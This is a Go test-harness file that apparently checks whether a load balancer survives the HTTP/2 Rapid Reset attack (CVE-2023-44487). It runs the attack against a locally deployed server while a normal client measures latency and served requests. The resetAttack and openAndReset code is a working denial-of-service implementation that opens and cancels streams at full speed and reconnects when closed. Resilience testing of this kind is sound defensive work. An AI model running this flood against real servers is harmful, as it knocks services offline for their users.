package badpeers

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"runtime"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"

	"yokestall/internal/fake/rawpeer"
	"yokestall/internal/fake/webpeer"
)

const (
	// resetClients is the number of connections that reset streams concurrently.
	resetClients = 4

	// yieldInterval is the number of resets after which a client yields the CPU to other goroutines.
	yieldInterval = 64

	// maxResetGoroutines is the maximum number of goroutines of the process. It allows 3 for a stream (its handler,
	// its attempt and one more), 20 for a connection and 200 for the rest of the process.
	maxResetGoroutines = resetClients*(3*streamsPerConnection+20) + 200
)

// rapidReset opens streams and resets them immediately, at full speed, over resetClients connections (CVE-2023-44487),
// while a normal client sends requests. A connection that the load balancer closes is opened again.
func (r *rig) rapidReset(ctx context.Context) (string, error) {
	d, err := r.deploy(webpeer.Protocol{HTTP2: true}, webpeer.Protocol{})
	if err != nil {
		return "", err
	}
	defer d.close()
	attack := resetAttack{addr: d.addr, limit: int64(r.Resets)}
	var clients sync.WaitGroup
	for range resetClients {
		clients.Go(func() { attack.run(ctx) })
	}
	ended := make(chan struct{})
	go func() {
		clients.Wait()
		close(ended)
	}()
	normal := r.sendUntil(ctx, d, ended)
	clients.Wait()
	if normal.served == 0 {
		r.report("no request of the normal client was served")
	}
	if normal.goroutines > maxResetGoroutines {
		r.report("process has %d goroutines, limit %d", normal.goroutines, maxResetGoroutines)
	}
	slices.Sort(normal.latencies)
	n := len(normal.latencies)
	p99 := normal.latencies[n*99/100].Round(time.Microsecond)
	return fmt.Sprintf("%d resets over %d connections; %d of %d normal requests served, p99 %v; %d goroutines",
		attack.resets.Load(), attack.closed.Load(), normal.served, n, p99, normal.goroutines), nil
}

// normalClient holds what a well-behaved client measured during the attack.
type normalClient struct {
	latencies  []time.Duration
	served     int
	goroutines int // largest number of goroutines of the process
}

// sendUntil sends one request after another until ended is closed, and then a last one. It stops early if a request
// fails.
func (r *rig) sendUntil(ctx context.Context, d *deployment, ended <-chan struct{}) (normal normalClient) {
	for last := false; !last; {
		select {
		case <-ended:
			last = true
		default:
		}
		start := time.Now()
		resp, err := d.send(ctx, "/x", "", nil)
		if err != nil {
			r.report("request of the normal client failed: %v", err)
			break
		}
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK {
			normal.served++
		}
		normal.latencies = append(normal.latencies, time.Since(start))
		normal.goroutines = max(normal.goroutines, runtime.NumGoroutine())
	}
	return normal
}

// resetAttack is the state that the clients that reset streams share.
type resetAttack struct {
	addr           string
	limit          int64 // number of resets to make; each concurrent client may exceed the limit by one
	resets, closed atomic.Int64
}

// run resets streams until the limit is reached. It opens a new connection whenever the previous one is closed.
func (a *resetAttack) run(ctx context.Context) {
	for a.resets.Load() < a.limit && ctx.Err() == nil {
		conn, framer, err := rawpeer.OpenHTTP2(a.addr)
		if err != nil {
			return
		}
		var reader sync.WaitGroup
		reader.Go(func() { io.Copy(io.Discard, conn) })
		a.resetStreams(framer)
		a.closed.Add(1)
		conn.Close()
		reader.Wait()
	}
}

// resetStreams resets streams of one connection until it is closed or the limit is reached.
func (a *resetAttack) resetStreams(framer *http2.Framer) {
	head := rawpeer.Fields(":method", "GET", ":scheme", "http", ":authority", "a", ":path", "/x")
	for id := uint32(1); a.resets.Load() < a.limit; id += 2 {
		if openAndReset(framer, id, head) != nil {
			return
		}
		if a.resets.Add(1)%yieldInterval == 0 {
			runtime.Gosched() // lets the other goroutines run on a single core
		}
	}
}

// openAndReset opens the stream id with the header block head and resets the stream.
func openAndReset(framer *http2.Framer, id uint32, head []byte) error {
	open := http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true, EndStream: true}
	if err := framer.WriteHeaders(open); err != nil {
		return err
	}
	return framer.WriteRSTStream(id, http2.ErrCodeCancel)
}
